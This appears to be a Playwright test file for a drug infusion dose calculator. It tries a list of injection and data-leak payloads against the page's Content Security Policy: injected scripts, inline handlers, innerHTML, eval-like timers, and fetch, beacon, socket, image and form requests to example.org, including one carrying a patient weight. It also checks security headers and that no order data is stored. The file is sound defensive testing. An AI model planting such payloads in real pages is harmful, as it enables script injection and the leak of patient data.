import { test as bare, expect } from '@playwright/test';
import { workOut } from './order';
import { NOTHING, stored, test } from './page';

const order = {
  ...{ weight: '70', protocol: 'Continuous intravenous infusion', dose: '0.2' },
  ...{ drug: '100', volume: '50' },
};

// What a page that was tampered with would try; each by name, with the rule that stops it.
const ATTACKS: readonly { what: string; rule: string; attack: string }[] = [
  {
    what: 'a script written into the page',
    rule: 'require-trusted-types-for',
    attack: `const script = document.createElement('script');
      script.append('window.gotThrough = true');
      document.body.append(script);`,
  },
  {
    what: 'a module that is not a file of the page',
    rule: 'script-src-elem',
    attack: `return import('data:text/javascript,window.gotThrough = true');`,
  },
  {
    what: 'an event handler in markup',
    rule: 'require-trusted-types-for',
    attack: `document.body.setAttribute('onclick', 'window.gotThrough = true'); document.body.click();`,
  },
  {
    what: 'markup from a string',
    rule: 'require-trusted-types-for',
    attack: `document.body.innerHTML = '<p>gotThrough</p>'; window.gotThrough = true;`,
  },
  {
    what: 'code from a string',
    rule: 'require-trusted-types-for',
    attack: `setTimeout('window.gotThrough = true', 0);`,
  },
  {
    what: 'a policy of its own for trusted types',
    rule: 'trusted-types',
    attack: `trustedTypes.createPolicy('mine', {}); window.gotThrough = true;`,
  },
  {
    what: 'a request to another host',
    rule: 'connect-src',
    attack: `return fetch('https://example.org/').then(() => { window.gotThrough = true; });`,
  },
  {
    what: 'a beacon to another host',
    rule: 'connect-src',
    attack: `navigator.sendBeacon('https://example.org/', 'weight=70');`,
  },
  {
    what: 'a socket to another host',
    rule: 'connect-src',
    attack: `new WebSocket('wss://example.org/').onopen = () => { window.gotThrough = true; };`,
  },
  {
    what: 'a picture from another host',
    rule: 'img-src',
    attack: `const picture = new Image(); picture.onload = () => { window.gotThrough = true; };
      picture.src = 'https://example.org/weight-70.png';`,
  },
  {
    what: 'a style in the page',
    rule: 'style-src-elem',
    attack: `const style = document.createElement('style');
      style.textContent = 'body { display: none }'; document.head.append(style);
      window.gotThrough = getComputedStyle(document.body).display === 'none';`,
  },
  {
    what: 'a frame',
    rule: 'frame-src',
    attack: `const frame = document.createElement('iframe'); frame.src = 'https://example.org/';
      document.body.append(frame);`,
  },
  {
    what: 'a form sent elsewhere',
    rule: 'form-action',
    attack: `const form = document.createElement('form'); form.action = 'https://example.org/';
      document.body.append(form); form.submit();`,
  },
  {
    what: 'another base for every address',
    rule: 'base-uri',
    attack: `const base = document.createElement('base'); base.href = 'https://example.org/';
      document.head.append(base);
      window.gotThrough = new URL('x', document.baseURI).host === 'example.org';`,
  },
];

bare.describe('the policy of the page stops', () => {
  for (const { what, rule, attack } of ATTACKS) {
    bare(what, async ({ page, baseURL }) => {
      const foreign: string[] = [];
      page.on('response', (response) => {
        if (!response.url().startsWith(`${baseURL}`)) foreign.push(response.url());
      });
      await page.goto('./');
      const broken = await page.evaluateHandle(() => {
        const rules: string[] = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          rules.push(effectiveDirective);
        });
        return rules;
      });
      // The test's own code is run by the debugger, which the policy does not bind.
      await page.evaluate(`Promise.resolve().then(() => { ${attack} }).catch(() => {})`);
      await expect.poll(() => broken.jsonValue()).toContain(rule);
      expect(await page.evaluate('Boolean(window.gotThrough)')).toBe(false);
      expect(foreign).toEqual([]);
    });
  }
});

test('the server’s headers say what a meta element cannot', async ({ page }) => {
  const headers = (await page.request.get('./')).headers();
  expect(headers['content-security-policy']).toBe("frame-ancestors 'none'");
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['permissions-policy']).toBe('camera=(), geolocation=(), microphone=()');
});

test('the policy comes before all that it governs', async ({ page }) => {
  const html = await (await page.request.get('./')).text();
  const first = /<(meta http-equiv="Content-Security-Policy"|script|link|style)/.exec(html)?.[1];
  expect(first).toBe('meta http-equiv="Content-Security-Policy"');
  const policy = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(policy).toHaveAttribute('content', /^default-src 'none'; script-src 'self'; /);
  await expect(policy).not.toHaveAttribute('content', /unsafe|https?:|\*/);
});

test('an order worked out, printed, handed over and left: nothing of it is stored', async ({
  page,
  context,
}) => {
  await workOut(page, order);
  await page.pdf();
  await page.getByRole('button', { name: 'Hand over' }).click();
  await expect(page.getByRole('img', { name: /QR code/ })).toBeVisible();
  for (const view of ['Second check', 'Course', 'Library', 'Dose']) {
    await page.getByRole('link', { name: view, exact: true }).click();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await stored(page)).toEqual(NOTHING);
  }
  await page.goBack();
  await page.reload();
  expect(await stored(page)).toEqual(NOTHING);
  expect(await context.cookies()).toEqual([]);
  expect(new URL(page.url()).hash).not.toMatch(/70|0\.2/);
});
